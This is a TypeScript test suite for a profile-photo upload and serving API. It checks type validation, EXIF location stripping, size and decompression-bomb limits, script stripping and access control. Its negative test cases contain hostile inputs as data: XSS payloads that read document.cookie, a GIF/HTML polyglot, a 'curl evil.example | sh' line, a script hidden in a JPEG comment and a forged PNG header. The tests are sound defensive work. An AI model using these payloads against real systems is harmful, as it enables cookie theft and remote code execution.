import assert from 'node:assert/strict';
import test, { after } from 'node:test';
import { crc32 } from 'node:zlib';
import type { ErrorBody, User } from '@waymark/api-contract';
import sharp from 'sharp';
import { startTestApi, type TestMember } from '../../testing/api.ts';

const api = await startTestApi();
after(() => api.stop());
const member = await api.signUp();

const noise = (side: number) =>
  sharp({
    create: {
      width: side,
      height: side,
      channels: 3,
      background: '#678',
      noise: { type: 'gaussian', mean: 120, sigma: 60 },
    },
  });
function upload(
  bytes: Uint8Array<ArrayBuffer>,
  type: string,
  who: TestMember = member,
  id = who.userId,
  field = 'photo',
) {
  const body = new FormData();
  body.append(field, new Blob([bytes], { type }), 'me.png');
  return api.call<User & ErrorBody>('PUT', `/services/main/v7.1/user_profile_photo/${id}/`, {
    token: who.token,
    body,
  });
}
const plain = (bytes: Buffer) => new Uint8Array(bytes);
const picture = (query = '', headers: Record<string, string> = {}) =>
  fetch(`${api.url}/profile/olarunner1/picture${query}`, { headers });

test('[HOST-10] a member without a picture has initials on a colour that stays', async () => {
  const [first, again] = [await picture(), await picture('?size=Medium')];
  assert.equal(first.headers.get('content-type'), 'image/svg+xml; charset=utf-8');
  const svg = await first.text();
  assert.match(svg, />OR<\/text>/);
  assert.equal(first.headers.get('x-content-type-options'), 'nosniff');
  assert.match(first.headers.get('content-security-policy') ?? '', /^default-src 'none'/);
  assert.equal(await again.text(), svg);
  const unchanged = await picture('', { 'if-none-match': first.headers.get('etag') ?? '' });
  assert.equal(unchanged.status, 304);
  assert.equal((await fetch(`${api.url}/profile/nobody-here/picture`)).status, 200);
});

test('[HOST-10] an uploaded picture is served in three sizes without the place it was taken', async () => {
  const photo = await noise(300)
    .jpeg()
    .withExif({ IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 13/1 0/1' } })
    .toBuffer();
  assert.ok((await sharp(photo).metadata()).exif);
  const stored = await upload(plain(photo), 'image/jpeg');
  assert.equal(stored.status, 200);
  assert.equal(stored.body.profilePictureStatus, 'ready');
  const sides = await Promise.all(
    stored.body._links['image']?.map(async ({ href }) => {
      const answer = await fetch(api.url + href);
      assert.equal(answer.headers.get('content-type'), 'image/webp');
      assert.match(answer.headers.get('cache-control') ?? '', /immutable/);
      assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
      const made = await sharp(Buffer.from(await answer.arrayBuffer())).metadata();
      assert.equal(made.exif, undefined);
      return made.width;
    }) ?? [],
  );
  assert.deepEqual(sides, [96, 256, 640]);
  const revalidated = await picture('?size=Small');
  assert.equal(revalidated.headers.get('cache-control'), 'private, no-cache');
});

test('pictures that are too big are refused as too-big', async () => {
  const big = await noise(900).png({ compressionLevel: 0 }).toBuffer();
  assert.ok(big.length > 1_000_000);
  const answer = await upload(plain(big), 'image/png');
  assert.deepEqual([answer.status, answer.body.error], [413, 'too-big']);
});

test('what is no picture of a known type is refused as invalid-image-type', async () => {
  const webp = await noise(20).webp().toBuffer();
  const cases: [Uint8Array<ArrayBuffer>, string][] = [
    [plain(webp), 'image/webp'],
    [plain(webp), 'image/png'],
    [plain(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')), 'image/png'],
    [plain(Buffer.from('GIF89a not really')), 'image/gif'],
    [plain(Buffer.from('GIF89a/*<html>*/=1;</html><script>alert(document.cookie)</script>')), 'image/gif'],
    [plain(Buffer.from('<!doctype html><script>alert(1)</script>')), 'image/jpeg'],
    [plain(Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')), 'image/png'],
    [new Uint8Array(), 'image/jpeg'],
  ];
  for (const [bytes, type] of cases) {
    const answer = await upload(bytes, type);
    assert.deepEqual([answer.status, answer.body.error], [415, 'invalid-image-type'], type);
  }
});

test('a small file with a huge picture inside is refused', async () => {
  const bomb = await sharp({ create: { width: 7500, height: 7500, channels: 3, background: '#000' } })
    .png({ compressionLevel: 9, palette: true })
    .toBuffer();
  assert.ok(bomb.length < 1_000_000);
  assert.equal((await upload(plain(bomb), 'image/png')).body.error, 'invalid-image-type');
});

test('a script inside a picture is not served with it', async () => {
  const script = Buffer.from('<script>alert(document.cookie)</script>');
  const jpeg = await noise(40).jpeg().toBuffer();
  // A comment right behind the start of the picture.
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), script]);
  const answer = await upload(
    plain(Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])),
    'image/jpeg',
  );
  assert.equal(answer.status, 200, answer.text);
  for (const { href } of answer.body._links['image']!) {
    const served = await fetch(api.url + href);
    assert.equal(served.headers.get('content-type'), 'image/webp');
    assert.match(served.headers.get('content-security-policy') ?? '', /default-src 'none'/);
    assert.ok(!Buffer.from(await served.arrayBuffer()).includes('script'));
  }
});

test('a picture 20,000 pixels wide is cut to squares; one that is as high too is refused before it is decoded', async () => {
  const wide = await sharp({ create: { width: 20_000, height: 60, channels: 3, background: '#283' } })
    .png()
    .toBuffer();
  const answer = await upload(plain(wide), 'image/png');
  assert.equal(answer.status, 200, answer.text);
  const large = await fetch(api.url + answer.body._links['image']![2]!.href);
  assert.equal((await sharp(Buffer.from(await large.arrayBuffer())).metadata()).width, 640);
  // Its header says 20,000 by 20,000; the checksum of the header is right again.
  const huge = Buffer.from(wide);
  huge.writeUInt32BE(20_000, 20);
  huge.writeUInt32BE(crc32(huge.subarray(12, 29)), 29);
  assert.deepEqual((await upload(plain(huge), 'image/png')).body.error, 'invalid-image-type');
});

test('an upload without the field says so', async () => {
  const answer = await upload(
    plain(await noise(20).png().toBuffer()),
    'image/png',
    member,
    member.userId,
    'other',
  );
  assert.deepEqual(answer.body.diagnostics, { photo: ['Photo is required.'] });
  const json = await api.call<ErrorBody>('PUT', `/services/main/v7.1/user_profile_photo/${member.userId}/`, {
    token: member.token,
    body: {},
  });
  assert.equal(json.status, 415);
});

test("[DATA-03] nobody replaces another member's picture, and a private one is its member's alone", async () => {
  const other = await api.signUp();
  const png = plain(await noise(40).png().toBuffer());
  assert.equal((await upload(png, 'image/png', other, member.userId)).status, 403);
  const privacy = { default_privacy: { workout: 0, route: 0, profile: 0 } };
  await api.call('PUT', `/services/main/v7.1/user/${member.userId}/`, { token: member.token, body: privacy });
  const type = async (headers: Record<string, string>) =>
    (await picture('', headers)).headers.get('content-type');
  assert.equal(await type({}), 'image/svg+xml; charset=utf-8');
  assert.equal(await type({ cookie: other.cookie }), 'image/svg+xml; charset=utf-8');
  assert.equal(await type({ cookie: member.cookie }), 'image/webp');
});
